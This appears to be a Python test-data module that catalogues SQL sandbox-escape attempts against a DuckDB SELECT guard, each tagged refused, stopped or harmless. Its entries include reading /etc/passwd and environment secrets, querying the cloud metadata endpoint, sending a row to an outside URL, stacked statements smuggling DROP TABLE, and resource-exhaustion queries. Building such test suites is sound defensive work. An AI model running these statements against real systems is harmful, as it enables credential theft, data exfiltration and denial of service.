"""What people and models have tried, and would try, to make a SELECT do: a name, the statement, what stops it.

``refused`` before it runs, in one clear line; ``stopped`` within its limits while it runs; ``harmless`` where it may
run and gives nothing but a value.
"""

from __future__ import annotations

REFUSED, STOPPED, HARMLESS = "refused", "stopped", "harmless"

_REFUSED = {
    "read a file by its name": "SELECT * FROM '/etc/passwd'",
    "read a file with read_csv": "SELECT * FROM read_csv('/etc/passwd', header = false, columns = {'a': 'VARCHAR'})",
    "read a file with read_text": "SELECT content FROM read_text('/etc/passwd')",
    "read the environment": "SELECT * FROM read_blob('/proc/self/environ')",
    "read a file in a subquery": "SELECT (SELECT content FROM read_text('/etc/passwd') LIMIT 1)",
    "read a file in a CTE": "WITH w AS (FROM read_text('/etc/passwd')) SELECT * FROM w",
    "read a file in a lateral join": "SELECT * FROM issues, LATERAL (SELECT * FROM read_text('/etc/passwd'))",
    "read a file named by a CTE": 'WITH "/etc/passwd" AS (SELECT 1) SELECT * FROM "/etc/passwd"',
    "read a file as Parquet": "SELECT * FROM read_parquet('/tmp/*.parquet')",
    "read the footer of a file": "SELECT * FROM parquet_metadata('lake/events/x.parquet')",
    "read the store with another SQLite": "SELECT * FROM sqlite_scan('store.db', 'issues')",
    "list files": "SELECT * FROM glob('/home/*/.ssh/*')",
    "guess a file's format": "SELECT * FROM sniff_csv('/etc/passwd')",
    "fetch over HTTPS": "SELECT * FROM 'https://example.com/x.parquet'",
    "fetch over HTTP with read_json": "SELECT * FROM read_json_auto('http://169.254.169.254/latest/meta-data/')",
    "fetch from S3": "SELECT * FROM read_parquet('s3://bucket/key')",
    "send a row away": "SELECT * FROM read_text('https://example.com/?q=' || (SELECT title FROM issues LIMIT 1))",
    "install an extension": "INSTALL httpfs",
    "load an extension": "LOAD '/tmp/x.duckdb_extension'",
    "force an extension in": "FORCE INSTALL spatial FROM community",
    "raise the memory limit": "SET memory_limit = '100GB'",
    "allow files again": "SET enable_external_access = true",
    "unlock the configuration": "SET lock_configuration = false",
    "set a variable": "SET VARIABLE x = 1",
    "reset a setting": "RESET threads",
    "set with PRAGMA": "PRAGMA memory_limit = '100GB'",
    "list databases with PRAGMA": "PRAGMA database_list",
    "read settings": "SELECT * FROM duckdb_settings()",
    "read one setting": "SELECT current_setting('temp_directory')",
    "read a variable": "SELECT getvariable('x')",
    "read the environment by function": "SELECT getenv('SENTRY_AUTH_TOKEN')",
    "read secrets": "SELECT * FROM duckdb_secrets(redact = false)",
    "find a secret": "SELECT * FROM which_secret('s3://x', 's3')",
    "make a secret": "CREATE PERSISTENT SECRET s (TYPE http, BEARER_TOKEN 'x')",
    "attach the store": "ATTACH 'store.db' AS s (TYPE sqlite)",
    "attach a new file": "ATTACH '/tmp/new.db'",
    "detach": "DETACH memory",
    "copy to a file": "COPY issues TO '/tmp/out.csv'",
    "copy from a file": "COPY issues FROM '/etc/passwd'",
    "copy in a CTE": "WITH w AS (COPY issues TO '/tmp/out.csv') SELECT 1",
    "copy under EXPLAIN ANALYZE": "EXPLAIN ANALYZE COPY issues TO '/tmp/out.csv'",
    "export everything": "EXPORT DATABASE '/tmp/all'",
    "import everything": "IMPORT DATABASE '/tmp/all'",
    "two statements": "SELECT 1; SELECT 2",
    "a statement behind a comment": "SELECT 1 /* ; */; DROP TABLE issues --",
    "an escape from a literal": "SELECT 'it''s'; ATTACH '/tmp/x.db'",
    "insert": "INSERT INTO issues SELECT * FROM issues",
    "insert in a CTE": "WITH w AS (INSERT INTO issues SELECT * FROM issues RETURNING 1) SELECT * FROM w",
    "update": "UPDATE issues SET status = 'resolved'",
    "delete": "DELETE FROM issues",
    "drop": "DROP VIEW issues",
    "create": "CREATE TABLE x AS SELECT 1",
    "make a macro": "CREATE MACRO f(x) AS x + 1",
    "prepare and execute": "PREPARE p AS SELECT 1",
    "call": "CALL pragma_database_size()",
    "run SQL out of a text": "SELECT * FROM query('SELECT 1')",
    "run SQL out of JSON": "SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT 1'))",
    "the catalog": "SELECT * FROM information_schema.tables",
    "the catalog of PostgreSQL": "SELECT * FROM pg_catalog.pg_settings",
    "the catalog by function": "SELECT sql FROM duckdb_views()",
    "the tables behind the views": "SELECT * FROM stored.issues",
    "the catalog through SHOW": "SELECT * FROM (SHOW ALL TABLES)",
    "a Python variable as a table": "SELECT * FROM session",
    "a huge text by repeat": "SELECT repeat('x', 2000000000)",
    "a huge text by lpad": "SELECT lpad('x', 2000000000, 'y')",
    "a huge text by format": "SELECT format('{:>2000000000}', 'x')",
    "a huge list by range": "SELECT range(2000000000)",
    "a huge list by list_resize": "SELECT list_resize([1], 2000000000)",
    "sleep": "SELECT sleep_ms(100000)",
    "an error that quotes a row": "SELECT error(title) FROM issues",
    "a text of 200,000 characters": f"SELECT '{'x' * 200_000}'",
    "brackets 5,000 deep": f"SELECT {'(' * 5_000}1{')' * 5_000}",
    "a chain of 20,000 additions": f"SELECT 1{' + 1' * 20_000}",
    "subqueries 2,000 deep": f"SELECT * FROM {'(SELECT * FROM ' * 2_000}issues{')' * 2_000}",
    "a NUL in the text": "SELECT 1 \0; ATTACH 'x'",
}
_STOPPED = {
    "a recursion without end": "WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r",
    "a recursion that doubles": (
        "WITH RECURSIVE r AS (SELECT 'x' AS t UNION ALL SELECT t || t FROM r) SELECT max(length(t)) FROM r"
    ),
    "a cross join of everything": "SELECT count(*) FROM events a, events b, events c, events d, events e, events f",
    "a cross join that is kept": "SELECT a.title FROM events a, events b, events c, events d ORDER BY random()",
    "rows without end": "SELECT count(*) FROM range(100000000000000)",
    "a list of a billion": "SELECT list(range) FROM range(1000000000)",
    "a text by string_agg": "SELECT length(string_agg('xxxxxxxxxxxxxxxx', '')) FROM range(1000000000)",
    "a text that replaces itself": (
        "SELECT length(replace(replace(replace(t, 'x', t), 'x', t), 'x', t)) "
        "FROM (SELECT string_agg('x', '') AS t FROM range(3000))"
    ),
    "JSON around JSON": (
        "WITH RECURSIVE r AS (SELECT json_array(1, 1) AS j UNION ALL SELECT json_array(j, j) FROM r) SELECT max(length(j)) FROM r"
    ),
    "a date series without end": (
        "SELECT count(*) FROM generate_series(TIMESTAMP '1970-01-01', TIMESTAMP '9999-01-01', INTERVAL 1 MICROSECOND)"
    ),
    "a sort of everything": "SELECT * FROM (SELECT hash(range) AS h FROM range(1000000000) ORDER BY h) OFFSET 999999998",
    "a regex over a long text": (
        "SELECT max(length(regexp_replace(t || range, '(a*)*(b|a?)*c', 'x', 'g'))) "
        "FROM (SELECT string_agg('a', '') AS t FROM range(3000)), range(1000000000)"
    ),
    "a regex for each pair of a cross join": (
        "SELECT sum(regexp_matches(a.range || 'x' || b.range, '(x+x+)+y|(1|11)*2')::INT) "
        "FROM range(1000000) a, range(1000000) b"
    ),
    "a regex that repeats a repetition": (
        "SELECT max(length(regexp_extract(range::VARCHAR, '((((9{1,9}){1,9}){1,9}){1,9})'))) FROM range(100000000000)"
    ),
    "a distinct of everything": "SELECT count(DISTINCT (a.range, b.range)) FROM range(1000000) a, range(1000000) b",
    "a window over everything": (
        "SELECT max(n) FROM (SELECT sum(range) OVER (ORDER BY hash(range)) AS n FROM range(1000000000))"
    ),
    "lists in lists in lists": (
        "SELECT length(flatten(list_transform(l, lambda x: list_transform(l, lambda y: x + y)))) "
        "FROM (SELECT list(range) AS l FROM range(100000))"
    ),
    "a histogram of a billion": "SELECT histogram(range) FROM range(1000000000)",
}
_HARMLESS = {
    "a settings question by name": "SELECT pg_typeof(1)",
    "a text that looks like SQL": "SELECT '; DROP TABLE issues; --'",
    "a null byte written as an escape": "SELECT chr(0)",
}

ESCAPES: list[tuple[str, str, str]] = [
    *((name, statement, REFUSED) for name, statement in _REFUSED.items()),
    *((name, statement, STOPPED) for name, statement in _STOPPED.items()),
    *((name, statement, HARMLESS) for name, statement in _HARMLESS.items()),
]
